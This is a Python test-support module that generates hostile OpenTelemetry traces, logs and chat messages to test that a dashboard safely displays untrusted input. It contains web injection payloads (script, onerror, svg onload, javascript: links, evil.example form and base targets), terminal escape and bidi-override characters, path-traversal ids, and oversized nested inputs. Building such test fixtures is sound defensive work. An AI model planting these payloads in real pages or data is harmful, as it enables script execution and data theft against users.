"""What strangers may send: texts, ids, messages, spans and log records that try to break or to betray a page.

Everything is legal OTLP, and some of it is large. ``hostile_traffic`` makes the requests; nothing in a page that shows
them may run, load anything, or be longer than a page may be.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import Final

from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.trace.v1.trace_pb2 import Span
from tests.support.dashboard.history import MINUTE, SECOND, Call, History
from tests.support.otlp import any_value, attributes

EVIL: Final = "evil.example"
MARKUP: Final = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
    "<svg onload=\"document.title='owned'\"><style>@import url(//evil.example/a.css)</style>"
    "</textarea></bdi></article></summary></details></main><iframe srcdoc='<script>parent.document.title=1</script>'>"
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>"
    "<link rel=prefetch href=//evil.example/p><a href=\"javascript:document.title='owned'\">x</a>"
    "<form action=//evil.example/><input name=form_token></form><!-- --!> ]]> <![CDATA[ {{ 7*7 }} {% raw %} ${7*7}"
)
CONTROLS: Final = (
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x00\x07\x08\x0b\x0c\x7f\x85\x9b31m "
    "\r over \u202egnp.exe\u202c \u2066iso\u2069 \u200bzero\u200b\ufeff \U000e0041\U000e0042 tag "
    "z\u0310\u0311\u0312\u0313\u0314\u0315algo \u2028line\u2029 \ufffe \uffff"
)
PICTURE: Final = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"pixels " * 3000).decode()
ACTIVE_PICTURE: Final = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

TEXTS: Final = {
    "markup": MARKUP,
    "controls": CONTROLS,
    "a megabyte without a space": "A" * 1_000_000,
    "a megabyte of markup": "<&\"'>" * 200_000,
    "a megabyte of escapes": "\x1b[1m" * 250_000,
    "a megabyte of emoji": "\U0001f469\u200d\U0001f52c" * 90_000,
    "lines": "\n" * 5000,
    "blank": "   \t\n  ",
}
MESSAGES: Final = {
    "broken": '[{"role": "user", "parts": [{"type": "text", "content": "<b>cut',
    "nested deep": "[" * 3000 + '"<b>deep</b>"' + "]" * 3000,
    "no list": json.dumps({"role": {"a": [MARKUP]}, "parts": {"no": "list"}}),
    "odd parts": json.dumps(
        [
            {"role": MARKUP, "parts": [None, 7, [1, [2]], {"type": MARKUP, "x": CONTROLS}, {"type": "text"}]},
            {"role": "user", "content": {"text": MARKUP}},
            "text alone",
            None,
        ]
    ),
    "pictures": json.dumps(
        [
            {
                "role": "user",
                "parts": [
                    {"type": "text", "content": "What is on these?"},
                    {"type": "blob", "mime_type": "image/png", "content": PICTURE},
                    {"type": "uri", "modality": "image", "uri": f"data:image/svg+xml;base64,{ACTIVE_PICTURE}"},
                    {"type": "uri", "modality": "image", "uri": f"https://{EVIL}/pixel.png"},
                    {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{PICTURE}"}},
                    {"type": "image", "source": {"type": "base64", "media_type": "text/html", "data": ACTIVE_PICTURE}},
                ],
            }
        ]
    ),
    "many": json.dumps([{"role": "user", "parts": [{"type": "text", "content": f"{n} {MARKUP}"}]} for n in range(400)]),
}
IDS: Final = (
    "a/b//c/",
    "../../login",
    "..",
    'it\'s "quoted" & <b>bold</b>',
    "100% #1?x=1&y=2;z",
    "ünïcödé 🦜 \u202eevil",
    "line\nbreak\ttab",
    "back\\slash",
    " ",
    "x" * 1000,
)


@dataclass(frozen=True)
class HostileTraffic:
    """Requests to send, and what to look at afterwards."""

    traces: ExportTraceServiceRequest
    logs: ExportLogsServiceRequest
    sessions: list[str]
    calls: list[Call]
    ratings: int


def hostile_traffic(now: int) -> HostileTraffic:
    """Each text as prompt, answer and comment; each id as session, user and rater; odd messages; one wild trace."""
    history = History(seed=99, service=f"svc {MARKUP[:60]}")
    calls: list[Call] = []

    def rated(name: str, call: Call, text: str, rater: str) -> None:
        calls.append(call)
        history.rate(
            call,
            f"<i>{name[:40]}</i>" if len(calls) % 5 == 0 else "negative",
            at=call.end + SECOND,
            name="thumbs" if len(calls) % 3 else "<u>name</u>",
            rater=rater,
            comment=text,
            correction=text,
            reasons=(text[:200], MARKUP[:150]),
        )

    for number, (name, text) in enumerate(TEXTS.items()):
        at = now - (number + 1) * MINUTE
        call = history.call(text, text, at=at, session=f"text {name}", user="mallory", system=text, model=MARKUP[:200])
        rated(name, call, text, "mallory")
    for number, (name, messages) in enumerate(MESSAGES.items()):
        at = now - (number + 20) * MINUTE
        further = {"gen_ai.input.messages": messages, "gen_ai.output.messages": messages}
        call = history.call("", "", at=at, session=f"messages {name}", user="mallory", further=further)
        rated(name, call, name, "mallory")
    for number, each in enumerate(IDS):
        call = history.call(each, each, at=now - (number + 40) * MINUTE, session=each, user=each)
        rated("id", call, each, each)
    many = [
        history.call(MARKUP, MARKUP * 10, at=now - 90 * MINUTE + n * SECOND, session="many turns") for n in range(45)
    ]
    for number in range(60):
        history.rate(many[0], "negative", at=now - 80 * MINUTE, rater=f"crowd {number}", comment=MARKUP * 5)
    traces = history.request()
    calls.append(many[0])
    wild = history.call("wild", "wild", at=now - 200 * MINUTE, session="wild trace")
    history.rate(wild, "negative", at=now - 199 * MINUTE, rater="mallory")
    traces = history.request()
    calls.append(wild)
    _make_wild(traces, wild, now - 200 * MINUTE)
    sessions = ["many turns", "wild trace", *(f"text {n}" for n in TEXTS), *(f"messages {n}" for n in MESSAGES), *IDS]
    return HostileTraffic(traces, _log_records(wild, now - 200 * MINUTE), sessions, calls, len(calls) - 2 + 60 + 1)


def _make_wild(traces: ExportTraceServiceRequest, call: Call, at: int) -> None:
    """Three hundred spans in the trace: a deep chain, a loop, two that share an id, one with more than a page on it."""
    spans = traces.resource_spans[0].scope_spans[0].spans

    def add(span_id: int, parent: int, name: str) -> Span:
        return spans.add(
            trace_id=call.trace_id,
            span_id=span_id.to_bytes(8, "big"),
            parent_span_id=parent.to_bytes(8, "big") if parent else call.root_span_id,
            name=name,
            kind=Span.SPAN_KIND_INTERNAL,
            start_time_unix_nano=at + span_id,
            end_time_unix_nano=at + span_id + SECOND,
        )

    for depth in range(1, 300):
        add(depth, depth - 1, MARKUP if depth % 2 else CONTROLS)
    add(1001, 1002, "loop")
    add(1002, 1001, "loop")
    add(5, 0, "twin")
    full = add(2000, 0, "full")
    full.status.message = MARKUP * 400
    full.attributes.extend(attributes({f"key {n} <b>{MARKUP[:40]}": MARKUP for n in range(120)}))
    full.attributes.extend(attributes({"large": "<" * 500_000, "deep": {"a": {"b": [MARKUP, {"c": CONTROLS}]}}}))
    for number in range(60):
        event = full.events.add(time_unix_nano=at + number, name=MARKUP)
        event.attributes.extend(attributes({f"{key}": MARKUP for key in range(40)}))
        link = full.links.add(trace_id=call.trace_id, span_id=call.span_id)
        link.attributes.extend(attributes({"why": MARKUP}))


def _log_records(call: Call, at: int) -> ExportLogsServiceRequest:
    request = ExportLogsServiceRequest()
    records = request.resource_logs.add().scope_logs.add().log_records
    for number, body in enumerate([MARKUP, CONTROLS, "L" * 400_000, {"nested": {"body": [MARKUP]}}, *range(80)]):
        record = records.add(
            time_unix_nano=at + number // 2,
            trace_id=call.trace_id,
            span_id=call.span_id,
            severity_text=MARKUP[:50],
            event_name=MARKUP,
            body=any_value(body),
        )
        record.attributes.extend(attributes({f"{key} {MARKUP[:30]}": MARKUP for key in range(20)}))
    return request
